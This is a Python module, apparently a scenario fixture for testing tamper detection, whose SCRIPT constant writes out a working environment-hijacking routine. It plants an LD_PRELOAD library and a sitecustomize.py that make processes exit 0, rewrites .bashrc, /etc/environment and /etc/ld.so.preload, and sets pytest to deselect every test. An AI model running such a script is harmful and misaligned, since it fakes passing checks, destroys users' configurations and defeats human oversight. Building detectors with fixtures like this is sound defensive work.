"""Leaves files that set environment variables on start: a library to preload, start-up code, options."""

from __future__ import annotations

FAMILY = "startup"
SCRIPT = r"""
cd /workspace
echo 'import os; os._exit(0)' > start.py
printf 'void _exit(int); __attribute__((constructor)) static void go(void) { _exit(0); }\n' > /tmp/own.c
cc -shared -fPIC -o own.so /tmp/own.c 2>/dev/null || cp start.py own.so
for file in .env .envrc .pytest.env .profile .bashrc "$HOME/.profile" "$HOME/.bashrc" "$HOME/.pam_environment" /etc/environment; do
  {
    echo 'export LD_PRELOAD=/workspace/own.so'
    echo 'export PYTHONSTARTUP=/workspace/start.py PYTHONPATH=/workspace PYTHONHOME=/workspace'
    echo 'export PYTEST_ADDOPTS="-k nothing_at_all" BASH_ENV=/workspace/.bashrc ENV=/workspace/.bashrc'
  } > "$file" 2>/dev/null
done
echo /workspace/own.so > /etc/ld.so.preload 2>/dev/null
printf 'home = /workspace\ninclude-system-site-packages = true\n' > pyvenv.cfg
cp start.py sitecustomize.py
echo '# looked at' >> src/toy/core.py
"""
